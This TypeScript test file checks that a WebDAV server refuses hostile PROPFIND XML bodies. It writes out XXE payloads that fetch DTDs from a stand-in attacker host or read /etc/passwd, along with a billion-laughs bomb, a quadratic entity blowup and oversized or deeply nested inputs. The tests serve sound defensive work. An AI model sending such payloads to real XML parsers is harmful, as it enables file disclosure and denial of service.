import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { exchange, head, remainingAnswers } from '../support/answers.ts'
import { type Answer, ask } from '../support/ask.ts'
import { parseXml } from '../support/multistatus.ts'
import { rawConnection } from '../support/raw.ts'
import { serverWith, type TestServer } from '../support/server.ts'

function send(server: TestServer, body: string | Uint8Array, type = 'application/xml'): Promise<Answer> {
  return ask(server, 'PROPFIND /', { headers: { Depth: '0', 'Content-Type': type }, body })
}

/** A body that asks for resourcetype, with `inside` beside the question. */
function withInside(inside: string): string {
  return `<D:propfind xmlns:D="DAV:">${inside}<D:prop><D:resourcetype/></D:prop></D:propfind>`
}

describe('the bounds of an XML body (RFC 4918 §20.6)', () => {
  const external = [
    '<!DOCTYPE D:propfind SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE D:propfind PUBLIC "-//X//Y" "http://evil.example/x.dtd">',
    '<!DOCTYPE D:propfind [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE D:propfind [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>',
  ]
  for (const doctype of external) {
    it(`refuse what lies outside: ${doctype} (XML-10)`, async (test) => {
      const server = await serverWith(test)

      const { status, text } = await send(server, `<?xml version="1.0"?>${doctype}${withInside('&x;')}`)

      assert.equal(status, 403)
      const [condition] = parseXml(text).children
      assert.equal(condition?.name, 'DAV:no-external-entities')
    })
  }

  it('refuse a billion laughs before the first one (XML-11)', async (test) => {
    const server = await serverWith(test)
    const entities = Array.from(
      { length: 10 },
      (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
    )
    const bomb = `<!DOCTYPE D:propfind [<!ENTITY l0 "ha">${entities.join('')}]>${withInside('&l10;')}`

    const { status } = await send(server, `<?xml version="1.0"?>${bomb}`)

    assert.equal(status, 400)
  })

  it('refuse an entity that is blown up by use alone (XML-11)', async (test) => {
    const server = await serverWith(test)
    const bomb = `<!DOCTYPE D:propfind [<!ENTITY a "${'x'.repeat(50_000)}">]>${withInside('&a;'.repeat(50_000))}`

    const { status } = await send(server, bomb)

    assert.equal(status, 400)
  })

  it('refuse any other DOCTYPE (XML-11)', async (test) => {
    const server = await serverWith(test)

    for (const doctype of ['<!DOCTYPE D:propfind>', '<!DOCTYPE D:propfind [<!ELEMENT a ANY>]>']) {
      assert.equal((await send(server, `${doctype}${withInside('')}`)).status, 400, doctype)
    }
  })

  it('refuse more than 1 MiB (XML-12, MX-22)', async (test) => {
    const server = await serverWith(test)

    const just = await send(server, withInside('').padEnd(1_048_576))
    const over = await send(server, withInside('').padEnd(1_048_577))

    assert.deepEqual([just.status, over.status], [207, 413])
  })

  it('refuse more than 64 levels (XML-12)', async (test) => {
    const server = await serverWith(test)
    const nested = (levels: number): string => withInside('<a>'.repeat(levels) + '</a>'.repeat(levels))

    const just = await send(server, nested(63))
    const over = await send(server, nested(64))

    assert.deepEqual([just.status, over.status], [207, 400])
  })

  it('refuse 100,000 levels as fast as 65 (XML-12, XML-18)', { timeout: 10_000 }, async (test) => {
    const server = await serverWith(test)

    const { status } = await send(server, withInside('<a>'.repeat(100_000)))

    assert.equal(status, 400)
  })

  it('refuse more than 10,000 nodes (XML-12)', async (test) => {
    const server = await serverWith(test)

    const just = await send(server, withInside('<a/>'.repeat(9_997)))
    const over = await send(server, withInside('<a/>'.repeat(9_998)))

    assert.deepEqual([just.status, over.status], [207, 400])
  })

  it('refuse more than 256 attributes of one element (XML-12)', async (test) => {
    const server = await serverWith(test)
    const attributes = (count: number): string =>
      Array.from({ length: count }, (_, index) => ` a${index}=""`).join('')

    const just = await send(server, withInside(`<a${attributes(256)}/>`))
    const over = await send(server, withInside(`<a${attributes(257)}/>`))

    assert.deepEqual([just.status, over.status], [207, 400])
  })

  it('are watched while the body arrives, not at its end (XML-18)', async (test) => {
    const server = await serverWith(test)
    const connection = await rawConnection(test, server)
    const tags = '<a>'.repeat(100)

    connection.write(head('PROPFIND /', 'Depth: 0', 'Transfer-Encoding: chunked'))
    connection.write(`${tags.length.toString(16)}\r\n${tags}\r\n`)
    const [answer] = await remainingAnswers(connection)

    assert.equal(answer?.status, 400)
  })

  it('are watched before the body is asked for, where its length is announced (XML-18)', async (test) => {
    const server = await serverWith(test)

    const answers = await exchange(
      test,
      server,
      head('PROPFIND /', 'Depth: 0', 'Content-Length: 1048577', 'Expect: 100-continue', 'Connection: close'),
    )

    assert.deepEqual(
      answers.map(({ status }) => status),
      [413],
    )
  })
})
